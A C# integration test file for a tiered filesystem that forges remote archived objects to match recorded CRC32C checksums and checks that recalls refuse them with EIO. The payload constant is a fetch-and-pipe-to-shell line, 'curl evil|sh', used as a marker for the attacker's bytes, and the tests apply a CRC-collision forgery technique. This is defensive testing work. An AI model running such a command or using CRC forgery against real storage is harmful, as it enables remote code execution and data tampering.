using System.Text;
using System.Text.Json.Nodes;
using TierFs.IntegrationTests.Harness;
using TierFs.IntegrationTests.Remote;
using TierFs.Remote;
using static TierFs.IntegrationTests.Tiering.TierHarness;
using TierFs.Records;

namespace TierFs.IntegrationTests.Tiering;

/// <summary>
/// The attacker who can write the remote tier (an S3 credential, or the directory archive) replaces
/// an archived file's object with other bytes of the same length whose composite CRC32C is the
/// recorded one (4 bytes patched: a CRC is linear). A recall must refuse them: the open fails with
/// EIO, the stub and its record stay as they were, the log names the file and the mismatch. Before
/// the BLAKE3 composite, recalls verified the CRC and served the forged bytes.
/// </summary>
public sealed class ForgedObjectTests(S3ServerFixture fixture) : IClassFixture<S3ServerFixture>
{
    private const long StubBlocks = 16 * 1024 / 512;
    private static readonly byte[] Payload = "#!/bin/sh\ncurl evil|sh\n"u8.ToArray();

    [Fact]
    public void S3_an_object_forged_to_the_recorded_crc_is_refused_with_EIO_and_the_stub_kept()
    {
        using var t = S3TierMount.Start(fixture.Server, "forged-s3/");
        var data = Migrated(t.M, "victim.bin", Content(1_500_000, seed: 91));

        ForgedRefusedThenRepaired(t, "victim.bin", data, RecordOf(t.M, "victim.bin"));
    }

    [Fact]
    public void Directory_archive_an_object_forged_part_by_part_to_the_recorded_crc_is_refused_with_EIO()
    {
        using var m = TestMount.Create();
        // The embedded default archive, in parts of 256 KiB: the forgery keeps every part's CRC.
        m.Mount("--config", WriteConfig(m.Root, "remote:\n  type: directory\n  part_size: 256K\n"));
        var data = Migrated(m, "victim.bin", Content(1_300_000, seed: 92));
        var record = RecordOf(m, "victim.bin");
        Assert.EndsWith("-5", record["crc"]!.GetValue<string>());
        var objectPath = Path.Combine(m.StateDir, "archive", record["key"]!.GetValue<string>());
        Assert.Equal(data, File.ReadAllBytes(objectPath));

        File.WriteAllBytes(objectPath, Forge(data, record)); // what any user could do to the 0666 objects of old

        RefusedAndKept(m, "victim.bin");
        File.WriteAllBytes(objectPath, data);
        Assert.Equal(data, File.ReadAllBytes(m.M("victim.bin")));
    }

    [Fact]
    public void A_record_from_before_the_blake3_is_verified_by_its_md5_never_by_its_crc_alone()
    {
        using var t = S3TierMount.Start(fixture.Server, "forged-old-record/");
        var data = Migrated(t.M, "old.bin", Content(1_200_000, seed: 93));
        // The record as the previous TierFs wrote it: the MD5 and CRC forms, no BLAKE3.
        Assert.Equal(0, t.M.Unmount().ExitCode);
        var old = RecordOf(t.M, "old.bin");
        old.Remove("b3");
        Assert.Equal(0, Px.SetXattr(t.M.B("old.bin"), S3TierMount.StubXattr, Encoding.UTF8.GetBytes(old.ToJsonString())));
        t.Mount();

        ForgedRefusedThenRepaired(t, "old.bin", data, old, verifiedBy: old["sum"]!.GetValue<string>());
    }

    [Fact]
    public async Task Stress_concurrent_readers_over_many_cycles_never_get_a_forged_byte()
    {
        // Directory archive, parts of 64 KiB; each cycle forges a different third of the objects
        // (every part's CRC kept), then 3 readers per file open all files at once.
        using var m = TestMount.Create();
        m.Mount("--config", WriteConfig(m.Root, "remote:\n  type: directory\n  part_size: 64K\n"));
        var files = Enumerable.Range(0, 9).ToDictionary(i => $"f{i}.bin", i => Content(150_000 + i * 37_001, seed: 200 + i));
        foreach (var (name, data) in files) Migrated(m, name, data);
        var records = files.Keys.ToDictionary(n => n, n => RecordOf(m, n));
        string ObjectPath(string name) => Path.Combine(m.StateDir, "archive", records[name]["key"]!.GetValue<string>());

        for (var cycle = 0; cycle < 4; cycle++)
        {
            var forged = files.Keys.Where((_, i) => i % 3 == cycle % 3).ToHashSet();
            foreach (var name in forged) File.WriteAllBytes(ObjectPath(name), Forge(files[name], records[name]));

            var reads = files.Keys.SelectMany(name => Enumerable.Range(0, 3).Select(_ => Task.Run(() =>
            {
                var (rc, bytes) = OpenAndRead(m.M(name));
                return (name, rc, bytes);
            }))).ToArray();
            foreach (var (name, rc, bytes) in await Task.WhenAll(reads).WaitAsync(TimeSpan.FromSeconds(120)))
            {
                // A forged file fails at its open, or at the read that needs the forged part: never a payload byte.
                Assert.True(bytes.AsSpan().IndexOf(Payload) < 0, $"cycle {cycle}: {name}: a read returned the attacker's bytes");
                if (forged.Contains(name))
                    Assert.True(rc == Px.EIO, $"cycle {cycle}: {name} (forged) gave {Px.Name(rc)}");
                else
                    Assert.True(rc == 0 && bytes.AsSpan().SequenceEqual(files[name]), $"cycle {cycle}: {name} (intact) read {Px.Name(rc)}, {bytes.Length} bytes");
            }
            foreach (var name in forged)
            {
                Assert.True(Proc.WaitUntil(() => State(m.M(name)) == "released" && RecordOf(m, name).ToJsonString() == records[name].ToJsonString(), TimeSpan.FromSeconds(30)),
                    $"cycle {cycle}: {name}: state {State(m.M(name))}, record {RecordOf(m, name).ToJsonString()}");
            }

            // Repaired: every file reads back whole, then all are released again for the next cycle.
            foreach (var name in forged) File.WriteAllBytes(ObjectPath(name), files[name]);
            foreach (var (name, data) in files)
            {
                Assert.Equal(data, File.ReadAllBytes(m.M(name)));
                var r = Tierfs("release", m.M(name));
                Assert.True(r.ExitCode == 0, r.ToString());
                records[name] = RecordOf(m, name);
            }
        }
    }

    private static byte[] Migrated(TestMount m, string name, byte[] data)
    {
        File.WriteAllBytes(m.M(name), data);
        Migrate(m.M(name));
        return data;
    }

    /// <summary>The object replaced by a forgery (same metadata): refused; with the real object back, the open recalls it.</summary>
    private static void ForgedRefusedThenRepaired(S3TierMount t, string name, byte[] data, JsonObject record, string? verifiedBy = null)
    {
        var key = t.ObjectKeyOf(name);
        var meta = t.Head(key)!.Value.Meta;
        t.Put(key, Forge(data, record), meta);

        RefusedAndKept(t.M, name, verifiedBy);

        t.Put(key, data, meta);
        Assert.Equal(data, File.ReadAllBytes(t.M.M(name)));
    }

    [Fact]
    public void S3_a_forged_first_leaf_is_refused_also_with_its_chaining_value_forged_in_the_manifest()
    {
        // The first part is served leaf by leaf (its lead tree): the attacker forges bytes in the first
        // 1 MiB, where a reader of the file's start is served first, then also that leaf's CV in the
        // part manifest, which sits in the same bucket.
        using var t = S3TierMount.Start(fixture.Server, "forged-lead/", "part_size: 5M");
        const int MiB = 1024 * 1024;
        var data = Migrated(t.M, "lead.bin", Content(12 * MiB, seed: 94));
        var key = t.ObjectKeyOf("lead.bin");
        var manifestKey = PartManifest.KeyFor(key);
        var meta = t.Head(key)!.Value.Meta;
        var manifest = t.Bytes(manifestKey);
        const int CvAt = 28 + 3 * 36 + 12; // the first leaf's CV in a manifest of format 2 (3 parts)
        Assert.Equal("TFPARTS2"u8.ToArray(), manifest[..8]);
        Assert.Equal(Blake3Subtrees.SubtreeCv(data.AsSpan(0, MiB), 0), manifest[CvAt..(CvAt + 32)]);

        var forged = (byte[])data.Clone();
        Payload.CopyTo(forged, 100);
        t.Put(key, forged, meta);
        RefusedAndKept(t.M, "lead.bin", logSays: "are not the leaf archived");

        var forgedManifest = (byte[])manifest.Clone();
        Blake3Subtrees.SubtreeCv(forged.AsSpan(0, MiB), 0).CopyTo(forgedManifest, CvAt);
        t.Put(manifestKey, forgedManifest, new Dictionary<string, string>());
        RefusedAndKept(t.M, "lead.bin", logSays: "lead tree does not merge");

        t.Put(key, data, meta);
        t.Put(manifestKey, manifest, new Dictionary<string, string>());
        Assert.Equal(data, File.ReadAllBytes(t.M.M("lead.bin")));
    }

    /// <summary>
    /// Other bytes of the same length with the recorded composite CRC32C: a payload written into part 2
    /// (part 1 when there is one), that part's CRC restored by 4 bytes patched further on in it.
    /// </summary>
    private static byte[] Forge(byte[] data, JsonObject record)
    {
        var partSize = record["part"]!.GetValue<long>();
        var part = data.Length > partSize ? 1 : 0;
        var start = (int)(part * partSize);
        var length = (int)Math.Min(partSize, data.Length - start);
        var forgedPart = CrcForgery.SameCrc(data[start..(start + length)], 1000, Payload, length - 100);
        var forged = (byte[])data.Clone();
        forgedPart.CopyTo(forged, start);

        Assert.NotEqual(data, forged);
        Assert.Equal(record["crc"]!.GetValue<string>(), CompositeCrc32C.Compute(forged, partSize)); // what recalls verified before
        return forged;
    }

    /// <summary>
    /// The open fails with EIO, or (a streaming recall of a multi-part object answers the open first)
    /// the read that needs the forged part does; no byte of the payload is ever served; state, record,
    /// attributes unchanged; no data kept; the log says why.
    /// </summary>
    private static void RefusedAndKept(TestMount m, string name, string? verifiedBy = null, string? logSays = null)
    {
        var record = RecordOf(m, name);
        var before = Px.Stat(m.M(name));

        var (rc, served) = OpenAndRead(m.M(name));
        Assert.True(served.AsSpan().IndexOf(Payload) < 0, "a read returned the attacker's bytes");
        Assert.True(rc == Px.EIO, $"the open or read of a stub whose object was forged gave {Px.Name(rc)}, {served.Length} bytes");

        // The recall's failure puts the stub back after the read has its answer: awaited.
        Assert.True(Proc.WaitUntil(() => State(m.M(name)) == "released" && RecordOf(m, name).ToJsonString() == record.ToJsonString(), TimeSpan.FromSeconds(30)),
            $"state {State(m.M(name))}, record {RecordOf(m, name).ToJsonString()}");
        Assert.True(Px.Stat(m.B(name)).Blocks <= StubBlocks, $"the stub holds {Px.Stat(m.B(name)).Blocks} blocks after a refused recall");
        Assert.Equal(0, Px.Stat(m.M(name)).Blocks);
        Assert.Equal(Kept(before), Kept(Px.Stat(m.M(name))));
        var archivedAs = verifiedBy ?? record["b3"]!.GetValue<string>();
        Assert.Contains(m.Log.Split('\n'), l => l.Contains(name) && (logSays is not null ? l.Contains(logSays) :
            (l.Contains("checksum mismatch") && l.Contains($"archived as {archivedAs}")) || (l.Contains("BLAKE3") && l.Contains("the part was archived as"))));
    }

    /// <summary>Opens and reads to the end: 0 and the bytes, or the errno of the open or of the first failed read and the bytes read before it.</summary>
    private static (int Errno, byte[] Bytes) OpenAndRead(string path)
    {
        var rc = Px.TryOpen(path, Px.O_RDONLY, out var fd);
        if (rc != 0) return (rc, []);
        var all = new List<byte>();
        try
        {
            while (true)
            {
                byte[] chunk;
                try { chunk = Px.PRead(fd, 1 << 20, all.Count); }
                catch (PosixException e) { return (e.Errno, [.. all]); }
                if (chunk.Length == 0) return (0, [.. all]);
                all.AddRange(chunk);
            }
        }
        finally { Px.Close(fd); }
    }

    private static JsonObject RecordOf(TestMount m, string name)
    {
        Assert.Equal(0, Px.TryGetXattr(m.B(name), S3TierMount.StubXattr, out var value));
        return JsonNode.Parse(value)!.AsObject();
    }
}
